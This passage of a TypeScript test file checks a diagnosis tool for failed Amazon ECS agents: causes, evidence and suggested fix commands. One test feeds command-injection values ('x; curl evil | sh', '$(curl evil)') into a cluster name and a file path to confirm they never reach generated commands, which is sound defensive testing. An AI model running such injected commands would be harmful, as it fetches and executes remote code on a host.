      if (ecs) expect(d.evidence.some((e) => e.value === "cluster prod: not found")).toBe(true);
    },
  );

  it("a hostile ECS_CLUSTER value never reaches a command", () => {
    const r = edit(failedWith("cluster-not-found", FAILURE_LINES.clusterTerminal), (x) => {
      x.config.keys.ECS_CLUSTER = ["x; curl evil | sh", 0, 1];
      x.config.files = ["/etc/ecs/$(curl evil)"];
    });
    const d = diagnose(facts(r));
    expect(remedyOf(d, "create-cluster")!.command).toContain("--cluster-name <cluster>");
    expect(remedyOf(d, "fix-cluster")!.command).toContain(" /etc/ecs/ecs.config && ");
    for (const rem of d.remedies) expect(rem.command ?? "").not.toContain("evil");
  });

  it("Docker API too new for the agent -> docker-api, upgrade to 1.81.0 or later", () => {
    const d = diagnose(facts(failedWith("docker-api", FAILURE_LINES.dockerApi, { version: "1.75.0", status: 1 })));
    expect(d).toMatchObject({ verdict: "agent-failed", cause: "docker-api", restartWillWork: false });
    expect(d.evidence[0]!.value.slice(...d.evidence[0]!.match!)).toBe("client version 1.21 is too old");
    expect(d.remedies[0]).toMatchObject({
      id: "upgrade-agent",
      title: "Upgrade ecs-init and the agent to 1.81.0 or later",
    });
  });

  it("old agent: the named line is docker-api although the last error line is another line -> docker-api", () => {
    const r = edit(failedWith("docker-api", FAILURE_LINES.dockerApi, { version: "1.75.0", status: 1 }), (x) => {
      x.logs.error = { file: "ecs-agent.log", n: 30, text: 'level=error msg="Error loading previously saved state"' };
    });
    expect(diagnose(facts(r)).cause).toBe("docker-api");
  });

  it("old agent (before 1.81.0), Docker up, 'Could not get supported docker versions.' -> docker-api", () => {
    const d = diagnose(facts(failedWith("docker", FAILURE_LINES.dockerVersions, { version: "1.70.2", status: 1 })));
    expect(d.cause).toBe("docker-api");
    expect(diagnose(facts(failedWith("docker", FAILURE_LINES.dockerVersions, { status: 1 }))).cause).toBe("docker");
  });

  it("no failure line, the last error line holds the old-agent words -> docker-api, not 'no known cause'", () => {
    const r = edit(failedWith("docker-api", FAILURE_LINES.dockerApi, { version: "1.75.0", status: 1 }), (x) => {
      delete x.logs.failure;
    });
    const d = diagnose(facts(r));
    expect(d.cause).toBe("docker-api");
    expect(d.summary).not.toContain("no known cause");
  });

  it("disk full per df, the failure line a symptom (task engine) -> disk-full with the df figure first", () => {
    const r = edit(
      failedWith("task-engine", 'level=critical msg="Unable to initialize new task engine: boltdb"'),
      (x) => {
        x.disks = [
          { path: "/", mount: "/", free: 1048576, use: 91, iuse: 8 },
          { path: "/var/lib/docker", mount: "/var/lib/docker", free: 0, use: 100, iuse: 12 },
        ];
      },
    );
    const d = diagnose(facts(r));
    expect(d).toMatchObject({ verdict: "agent-failed", cause: "disk-full", restartWillWork: false });
    expect(d.evidence[0]).toMatchObject({
      value: "/var/lib/docker on /var/lib/docker: 100% used, 0 KiB free, inodes 12% used",
      source: { kind: "probe", field: "disks (df -P /var/lib/docker)" },
    });
    expect(d.remedies[0]).toMatchObject({
      id: "free-disk",
      title: "Free space on /var/lib/docker, then restart the agent",
    });
    expect(d.summary).toContain("/var/lib/docker (filesystem /var/lib/docker) is full (100% of its space)");
  });

  it("disk full per df, no failure line, some other last error line -> disk-full", () => {
    const r = edit(failedWith("task-engine", "x"), (x) => {
      delete x.logs.failure;
      x.logs.error = { file: "ecs-agent.log", n: 3, text: 'level=error msg="Error loading previously saved state"' };
      x.disks = [{ path: "/var/lib/ecs", mount: "/", free: 0, use: 100, iuse: 3 }];
    });
    expect(diagnose(facts(r)).cause).toBe("disk-full");
  });

  it("agent up but unregistered, no line, disk full -> disk-full, not unknown", () => {
    const r = edit(failedWith("task-engine", "x"), (x) => {
      x.service = RUNNING;
      x.logs = { files: ["ecs-agent.log"] };
      x.disks = [{ path: "/var/lib/ecs", mount: "/", free: 0, use: 100, iuse: 3 }];
    });
    expect(diagnose(facts(r))).toMatchObject({ verdict: "agent-failed", cause: "disk-full" });
    const fine = edit(r, (x) => {
      x.disks = [{ path: "/var/lib/ecs", mount: "/", free: 900, use: 99, iuse: 3 }];
    });
    expect(diagnose(facts(fine)).verdict).toBe("unknown");
  });

  it("registered with /var/lib/docker full: still healthy (it joined), but the full disk is said and its fix offered", () => {
    const r = edit(healthyReport(), (x) => {
      x.disks = [{ path: "/var/lib/docker", mount: "/var/lib/docker", free: 0, use: 100, iuse: 20 }];
    });
    const d = diagnose(facts(r));
    expect(d.verdict).toBe("healthy");
    expect(d.summary).toContain("/var/lib/docker is full");
    expect(d.evidence.some((e) => e.source.kind === "probe" && e.value.startsWith("/var/lib/docker"))).toBe(true);
    expect(d.remedies[0]!.id).toBe("free-disk");
  });

  it("a host that never was an ECS instance (no ecs unit, no docker unit) -> unknown, not docker-down", () => {
    const r = edit(failedReport(), (x) => {
      x.service = { init: "systemd", load: "not-found", active: "inactive", sub: "dead" };
      x.ecsInit = null;
      x.logs = { files: [] };
      x.deps = { docker: { load: "not-found", active: "inactive", sub: "dead" } };
    });
    const d = diagnose(facts(r));
    expect(d.verdict).toBe("unknown");
    expect(d.summary).toContain("No ECS agent service was found");
  });

  it("ecs-init retrying: a newer run that has not registered yet does not hide the named failure", () => {
    const r = edit(failedWith("credentials", FAILURE_LINES.credentials, { status: 1 }), (x) => {
      x.logs.started = { file: "ecs-agent.log", n: 30, t: "2025-06-02T10:00:20Z", version: "1.105.0" };
      x.service = { ...x.service, active: "active", sub: "running" };
    });
    expect(diagnose(facts(r)).cause).toBe("credentials");
    // A unit whose exit 5 is final and ecs-init not retrying: the newer run is its own story.
    const once = edit(r, (x) => {
      x.logs.init = { ...x.logs.init!, code: 0, text: 'level=info msg="Agent exited with code 0"' };
    });
    expect(diagnose(facts(once)).cause).not.toBe("credentials");
  });

  it("inodes full counts as full", () => {
    const r = edit(failedWith("task-engine", "x"), (x) => {
      x.disks = [{ path: "/", mount: "/", free: 5242880, use: 40, iuse: 100 }];
    });
    const d = diagnose(facts(r));
    expect(d.cause).toBe("disk-full");
    expect(d.evidence[0]!.label).toContain("no inodes");
  });

  it("disk full per the log line only -> disk-full", () => {
    const d = diagnose(facts(failedWith("disk-full", FAILURE_LINES.diskFull)));
    expect(d.cause).toBe("disk-full");
    expect(d.evidence[0]!.value.slice(...d.evidence[0]!.match!)).toBe("no space left on device");
  });

  it("cgroups on an agent before 1.61.0 -> upgrade to 1.61.0 or later; on a newer one -> look at the mounts", () => {
    const old = diagnose(facts(failedWith("cgroups", FAILURE_LINES.cgroups, { version: "1.55.4" })));
    expect(old.cause).toBe("cgroups");
    expect(old.remedies[0]!.title).toBe("Upgrade ecs-init and the agent to 1.61.0 or later");
    const cur = diagnose(facts(failedWith("cgroups", FAILURE_LINES.cgroups)));
    expect(cur.remedies[0]!.command).toBe("mount | grep cgroup");
  });

  it("cloud-init DataSourceNone -> reboot or replace, not `cloud-init status` alone", () => {
    const d = diagnose(
      facts(failedWith("cloud-init", FAILURE_LINES.cloudInit), { group: "web", lifecycleState: "InService" }),
    );
    expect(d).toMatchObject({ verdict: "agent-failed", cause: "cloud-init", restartWillWork: false });
    expect(d.remedies[0]!.id).toBe("reboot-or-replace");
    expect(d.remedies[0]!.command).toContain("sudo reboot");
    expect(d.remedies[0]!.command).toContain(
      "terminate-instance-in-auto-scaling-group --instance-id i-0abc123def4567890",
    );
    expect(d.remedies.map((x) => x.command).join(" ")).not.toMatch(/^sudo cloud-init status/);
  });

  it("clock skew -> chrony, then the agent", () => {
    const d = diagnose(facts(failedWith("clock-skew", FAILURE_LINES.clockSkew, { version: "1.90.0", status: 1 })));
    expect(d).toMatchObject({ verdict: "agent-failed", cause: "clock-skew", restartWillWork: false });
    expect(d.evidence[0]!.value.slice(...d.evidence[0]!.match!)).toBe(
      "InvalidSignatureException: Signature not yet current",
    );
    expect(d.remedies[0]!.command).toContain("chronyc tracking");
    expect(d.remedies[0]!.command).toContain("sudo systemctl restart chronyd");
  });

  it("instance type changed -> revert the type or launch a new instance; a restart alone fails", () => {
    const d = diagnose(facts(failedWith("instance-type", FAILURE_LINES.instanceType)));
    expect(d).toMatchObject({ verdict: "agent-failed", cause: "instance-type", restartWillWork: false });
    expect(d.remedies[0]!.title).toBe("Revert the instance type change, or launch a new instance");
  });

  it.each([
    ["imds-region", FAILURE_LINES.imdsRegion],
    ["credentials", FAILURE_LINES.credentials],
  ] as const)("a proxy without NO_PROXY behind a %s failure -> proxy, with the exact NO_PROXY line", (kind, line) => {
    const r = edit(failedWith(kind, line, { status: 1 }), (x) => {
      x.proxy = { where: ["config", "unit"], missing: ["169.254.169.254", "169.254.170.2"] };
    });
    const d = diagnose(facts(r));
    expect(d).toMatchObject({ verdict: "agent-failed", cause: "proxy", restartWillWork: false });
    expect(d.evidence[0]).toMatchObject({
      value: "NO_PROXY misses 169.254.169.254, 169.254.170.2",
      source: { kind: "config", key: "NO_PROXY" },
    });
    const fix = d.remedies[0]!;
    expect(fix.configLine).toBe("NO_PROXY=169.254.169.254,169.254.170.2,/var/run/docker.sock");
    expect(fix.command).toContain("/etc/ecs/ecs.config");
    expect(fix.command).toContain("/etc/systemd/system/ecs.service.d/http-proxy.conf");
    expect(fix.command).toContain("daemon-reload");
    expect(fix.command).toContain(`printf '[Service]\\nEnvironment="NO_PROXY=`);
    expect(fix.command).not.toContain("\n");
    // Without the proxy the same line is its own cause.
    expect(diagnose(facts(failedWith(kind, line, { status: 1 }))).cause).toBe(kind);
  });

  it("unit disabled and never ran -> unit-disabled: enable --now --no-block, never a plain start", () => {
    const r = edit(failedReport(), (x) => {
      x.service = {
        init: "systemd",
        load: "loaded",
        active: "inactive",
        sub: "dead",
        result: "success",
        status: 0,
        restarts: 0,
        started: "",
        exited: "",
        enabled: "disabled",
        prevent: "5",
      };
      x.logs = { files: [] };
      x.imds = { token: "ok", idCode: 200, lcCode: 200, lcState: "InService" };
    });
    const d = diagnose(facts(r));
    expect(d).toMatchObject({ verdict: "agent-failed", cause: "unit-disabled", restartWillWork: false });
    expect(d.summary).not.toContain("stopped cleanly");
    expect(d.summary).toContain("never ran");
    expect(d.remedies[0]!.command).toBe("sudo systemctl enable --now --no-block ecs");
    for (const rem of d.remedies) expect(rem.command).not.toBe("sudo systemctl start ecs");
    expect(d.evidence.some((e) => e.value.includes("UnitFileState=disabled"))).toBe(true);
    // Lines of an earlier boot (a 404, IMDS InService now) do not make it lifecycle-404:ready: it has not run since.
    const earlier = edit(r, (x) => {
      x.logs = structuredClone(failedReport().logs);
    });
    const e = diagnose(facts(earlier));
    expect(e).toMatchObject({ verdict: "agent-failed", cause: "unit-disabled", restartWillWork: false });
    expect(e.summary).toContain("has not run since this boot");
    // Enabled and stopped by someone: still the clean stop.
    const enabled = edit(r, (x) => (x.service.enabled = "enabled"));
    expect(diagnose(facts(enabled)).summary).toContain("stopped cleanly");
  });
});

describe("diagnose: Debian/Ubuntu hosts (generic deb unit, no rpm)", () => {
  const deb = (r: ProbeReport) =>
    edit(r, (x) => {
      x.ecsInit = null;
      x.deb = "1.89.3-1";
      delete x.logs.started;
      x.os = { id: "ubuntu", version: "22.04" };
      x.service = {
        ...x.service,
        active: "activating",
        sub: "auto-restart",
        restarts: 57,
        unit: "/lib/systemd/system/ecs.service",
        prevent: "",
        enabled: "enabled",
      };
    });

  it("404 line, IMDS 404: blocked, the upgrade offered in dpkg words, and no 'systemd will not restart it'", () => {
    const d = diagnose(facts(deb(failedReport())));
    expect(d.verdict).toBe("lifecycle-404:blocked");
    expect(labels(d)).not.toContain("will not restart");
    expect(labels(d)).not.toContain("stopped retrying");
    expect(labels(d)).toContain("every 10 s");
    expect(d.summary).toContain("every 10 s");
    const up = remedyOf(d, "upgrade-agent")!;
    expect(up.command).toContain("dpkg -i");
    expect(up.command).not.toContain("yum");
    expect(up.why).toContain("dpkg 1.89.3-1");
    expect(d.evidence.some((e) => e.label.includes("Agent 1.89.3 is affected"))).toBe(true);
  });

  it("404 line, IMDS InService -> ready (restart works)", () => {
    const d = diagnose(facts(withImds(deb(failedReport()), 200, "InService")));
    expect(d.verdict).toBe("lifecycle-404:ready");
    expect(d.restartWillWork).toBe(true);
  });

  it("caught between two runs of the 10 s loop (a newer start, waiting, after the 404) -> still the 404, not waiting", () => {
    const r = edit(deb(failedReport()), (x) => {
      x.logs.lifecycle!.count = 54;
      x.logs.started = { file: "ecs-agent.log", n: 20, t: "2025-02-04T07:02:31Z", version: "1.89.3" };
      x.logs.waiting = { file: "ecs-agent.log", n: 22, t: "2025-02-04T07:02:32Z" };
      x.service = { ...x.service, active: "active", sub: "running", restarts: 421 };
    });
    expect(diagnose(facts(r)).verdict).toBe("lifecycle-404:blocked");
    // The rpm's unit does not loop: there the newer run really is waiting.
    const rpm = edit(r, (x) => {
      x.service.prevent = "5";
      x.ecsInit = "ecs-init-1.89.3-1.amzn2023.x86_64";
      delete x.deb;
      delete x.logs.init;
    });
    expect(diagnose(facts(rpm)).verdict).toBe("waiting");
  });

  it("the rpm's unit (RestartPreventExitStatus=5) still says systemd will not restart it", () => {
    const r = edit(failedReport(), (x) => (x.service.prevent = "5"));
    expect(labels(diagnose(facts(r)))).toContain("systemd will not restart it");
  });

  it("a deb host is not 'not installed'", () => {
    const r = edit(deb(failedReport()), (x) => {
      x.service = { init: "systemd" };
      delete x.logs.lifecycle;
    });
    expect(diagnose(facts(r)).summary).not.toContain("No ECS agent service was found");
  });
});

describe("diagnose: ECS facts as evidence", () => {
  it("overdue (InService, registered nowhere) is flagged on ssm-unreachable, in the summary and the evidence", () => {
    const d = diagnose({
      probe: undefined,
      ssm: { pingStatus: "ConnectionLost" },
      ecs: { registered: false, clustersSearched: 2, overdue: true },
    });
    expect(d.verdict).toBe("ssm-unreachable");
    expect(d.summary).toContain("InService in its group longer than it takes to join");
    expect(d.summary).toContain("none of the 2 clusters");
    expect(d.evidence.at(-1)).toMatchObject({
      value: "registered in none of 2 clusters looked at",
      source: { kind: "api", api: "ecs:ListContainerInstances", field: "ec2InstanceId" },
    });
  });

  it("overdue is flagged on a report-level verdict too, without changing it", () => {
    const plain = diagnose(facts(failedReport()));
    const d = diagnose(ecsFacts(failedReport(), { registered: false, clustersSearched: 1, overdue: true }));
    expect(d.verdict).toBe(plain.verdict);
    expect(d.restartWillWork).toBe(plain.restartWillWork);
    expect(d.summary.startsWith(plain.summary)).toBe(true);
    expect(d.summary).toContain("registered in none");
  });

  it("registered in ECS while the agent is down: evidence that ECS still lists it, disconnected", () => {
    const d = diagnose(ecsFacts(failedReport(), ECS_DISCONNECTED));
    expect(d.verdict).toBe("lifecycle-404:blocked");
    expect(d.evidence.some((e) => e.value.includes("agentConnected=false") && e.label.includes("no task"))).toBe(true);
  });

  it("ECS facts never turn a diagnosis into lifecycle-404:ready, nor a restart into a fix", () => {
    const ecsViews: DiagnosisFacts["ecs"][] = [
      undefined,
      ECS_CONNECTED,
      ECS_DISCONNECTED,
      { registered: false, clustersSearched: 2, overdue: true },
      { registered: false, clustersSearched: 2, clusterMissing: "prod" },
    ];
    const reports: ProbeReport[] = [
      failedReport(),
      withImds(failedReport(), 200, "InService"),
      withImds(failedReport(), 200, "Warmed:Stopped"),
      healthyReport(),
      acsReport("idle"),
      failedWith("registration", FAILURE_LINES.clusterNotFound),
      edit(withImds(failedReport(), 200, "InService"), (x) => {
        x.deps = { docker: { active: "failed" } };
      }),
      edit(withImds(failedReport(), 200, "InService"), (x) => {
        x.disks = [{ path: "/var/lib/ecs", mount: "/", free: 0, use: 100, iuse: 1 }];
      }),
    ];
    let ready = 0;
    for (const r of reports) {
      const without = diagnose(facts(r));
      for (const ecs of ecsViews) {
        const d = diagnose(ecsFacts(r, ecs));
        checkShape(d);
        if (d.verdict === "lifecycle-404:ready") {
          ready++;
          expect(without.verdict).toBe("lifecycle-404:ready");
          expect(r.imds.lcState).toBe("InService");
        }
        if (d.restartWillWork) expect(d.verdict).toMatch(/^lifecycle-404:/);
      }
    }
    expect(ready).toBeGreaterThan(0);
  });

  it("reaches every agent-failed cause", () => {
    const reached = new Set<string>();
    const add = (f: DiagnosisFacts) => reached.add(diagnose(f).cause ?? "");
    for (const [kind, line] of [
      ["cluster-not-found", FAILURE_LINES.clusterTerminal],
      ["docker-api", FAILURE_LINES.dockerApi],
      ["disk-full", FAILURE_LINES.diskFull],
      ["clock-skew", FAILURE_LINES.clockSkew],
      ["instance-type", FAILURE_LINES.instanceType],
      ["state-mismatch", FAILURE_LINES.stateMismatch],
      ["cgroups", FAILURE_LINES.cgroups],
      ["cloud-init", FAILURE_LINES.cloudInit],
      ["credentials", FAILURE_LINES.credentials],
      ["imds-region", FAILURE_LINES.imdsRegion],
      ["registration", 'level=critical msg="Agent will terminally exit, unable to register container instance: x"'],
      ["task-engine", 'level=critical msg="Unable to initialize new task engine: x"'],
      ["docker", FAILURE_LINES.dockerVersions],
    ] as const)
      add(facts(failedWith(kind, line)));
    add(
      facts(
        edit(failedWith("docker", FAILURE_LINES.dockerVersions), (x) => (x.deps = { docker: { active: "failed" } })),
      ),
    );
    add(
      facts(
        edit(
          failedWith("credentials", FAILURE_LINES.credentials),
          (x) => (x.proxy = { where: ["unit"], missing: ["169.254.169.254"] }),
        ),
      ),
    );
    add(
      facts(
        edit(failedReport(), (x) => {
          x.service = { init: "systemd", load: "loaded", active: "inactive", sub: "dead", enabled: "disabled" };
          x.logs = { files: [] };
        }),
      ),
    );
    add(facts(edit(withImds(failedReport(), 200, "InService"), (x) => (x.logs.lifecycle!.code = 500))));
    add(facts(edit(failedReport(), (x) => delete x.logs.lifecycle)));
    expect([...reached].sort()).toEqual([...AGENT_FAILURE_CAUSES].sort());
  });
});
